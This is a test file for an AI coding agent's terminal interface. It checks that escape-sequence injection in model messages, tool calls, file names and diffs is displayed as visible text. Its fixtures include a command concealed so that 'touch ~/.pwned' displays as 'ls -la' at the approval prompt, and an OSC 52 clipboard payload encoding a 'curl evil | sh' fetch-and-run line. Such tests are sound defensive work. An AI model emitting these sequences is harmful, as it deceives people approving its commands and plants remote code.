// Terminal injection through model-controlled text: an approval prompt must show exactly what
// will run (SGR 8 "conceal" plus a bare CR once made `touch …` display as `ls -la`), and no OSC
// sequence (title, clipboard) may reach the terminal from a message or tool output.
import { render } from 'ink-testing-library';
import { afterEach, describe, expect, it, vi } from 'vitest';
import type { AgentEvent, SessionOp } from '../protocol/events.js';
import { escapeTerminalText } from '../protocol/terminal-text.js';
import { App } from './app.js';
import type { SessionLike, TuiHost } from './host.js';

class ScriptedSession implements SessionLike {
  readonly id = 's';
  readonly ops: SessionOp[] = [];
  private readonly listeners = new Set<(event: AgentEvent) => void>();
  subscribe(listener: (event: AgentEvent) => void) {
    this.listeners.add(listener);
    return () => this.listeners.delete(listener);
  }
  start() {}
  submit(op: SessionOp) {
    this.ops.push(op);
  }
  emit(...events: AgentEvent[]) {
    for (const event of events) for (const listener of this.listeners) listener(event);
  }
}

const HIDDEN = 'touch ~/.pwned \u001b[8m\r ls -la';
const OSC_TITLE = '\u001b]0;owned\u0007';
const OSC_CLIPBOARD = '\u001b]52;c;Y3VybCBldmlsIHwgc2g=\u0007';

let instance: ReturnType<typeof render> | undefined;
afterEach(() => instance?.unmount());

describe('terminal injection in the TUI', () => {
  it('the approval prompt shows the concealed command and the CR as visible escapes', async () => {
    const session = new ScriptedSession();
    const host = {
      connect: async () => ({
        session,
        info: {
          sessionId: 's',
          provider: 'p',
          model: 'm',
          sandbox: 'workspace-write',
          approval: 'untrusted',
          cwd: '/w',
          baseUrl: 'http://127.0.0.1:1/v1',
        },
      }),
    } as unknown as TuiHost;
    instance = render(<App host={host} version="0" cwd="/w" color={false} now={() => 0} onExit={() => {}} />);
    const frame = () => instance?.lastFrame() ?? '';
    await vi.waitFor(() => expect(frame()).toContain('m'));
    const callId = 'call\u001b1';
    session.emit(
      { type: 'turn-begin', turnId: 't', prompt: 'go' },
      { type: 'message', turnId: 't', text: `Sure.${OSC_TITLE}${OSC_CLIPBOARD}` },
      {
        type: 'tool-call-begin',
        turnId: 't',
        callId,
        name: 'shell',
        arguments: JSON.stringify({ command: ['bash', '-lc', HIDDEN] }),
      },
      {
        type: 'approval-request',
        turnId: 't',
        request: {
          kind: 'command',
          callId,
          command: ['bash', '-lc', HIDDEN],
          cwd: '/w',
          reason: 'untrusted',
          unsandboxed: false,
        },
      },
    );
    await vi.waitFor(() => expect(frame()).toContain('Allow the model to run'));
    const shown = frame();
    expect(shown).toContain('touch ~/.pwned \\x1b[8m\\r ls -la');
    expect(shown).not.toContain('\u001b[8m');
    expect(shown).not.toContain('\r');
    expect(shown).not.toContain('\u001b]');
    expect(shown).not.toContain('\u0007');
    instance.stdin.write('y');
    // The answer goes back with the call id as the session knows it.
    await vi.waitFor(() =>
      expect(session.ops).toEqual([{ type: 'approval', callId, decision: { decision: 'approved' } }]),
    );
  });
});

describe('hostile file names and /diff output', () => {
  it('@ completion shows a file name with an escape sequence escaped; /diff output too', async () => {
    const session = new ScriptedSession();
    const evilName = 'src/app\u001b]0;owned\u0007.ts';
    const host = {
      connect: async () => ({
        session,
        info: {
          sessionId: 's',
          provider: 'p',
          model: 'm',
          sandbox: 'workspace-write',
          approval: 'untrusted',
          cwd: '/w',
          baseUrl: 'http://127.0.0.1:1/v1',
        },
      }),
      listFiles: async () => [evilName],
      gitDiff: async () => `+added \u001b[8mhidden\r line\n`,
    } as unknown as TuiHost;
    instance = render(<App host={host} version="0" cwd="/w" color={false} now={() => 0} onExit={() => {}} />);
    const frame = () => instance?.lastFrame() ?? '';
    await vi.waitFor(() => expect(frame()).toContain('m'));
    instance.stdin.write('look at @app');
    await vi.waitFor(() => expect(frame()).toContain('src/app\\x1b]0;owned\\x07.ts'));
    expect(frame()).not.toContain('\u001b]');
    instance.stdin.write('\u0015'); // Ctrl-U: clear the line
    instance.stdin.write('/diff');
    instance.stdin.write('\r');
    await vi.waitFor(() => expect(frame()).toContain('\\x1b[8mhidden\\r line'));
    expect(frame()).not.toContain('\u001b[8m');
  });
});

describe('escapeTerminalText', () => {
  it.each([
    ['plain\ttext\nnext', 'plain\ttext\nnext'],
    ['crlf\r\nline', 'crlf\nline'],
    ['bare\rcr', 'bare\\rcr'],
    ['\u001b[31mred', '\\x1b[31mred'],
    ['8-bit csi \u009b31m', '8-bit csi \\x9b31m'],
    ['bidi \u202egnp.exe', 'bidi \\u202egnp.exe'],
    ['bell\u0007 del\u007f nul\u0000', 'bell\\x07 del\\x7f nul\\x00'],
  ])('%j → %j', (input, expected) => {
    expect(escapeTerminalText(input)).toBe(expected);
  });
});
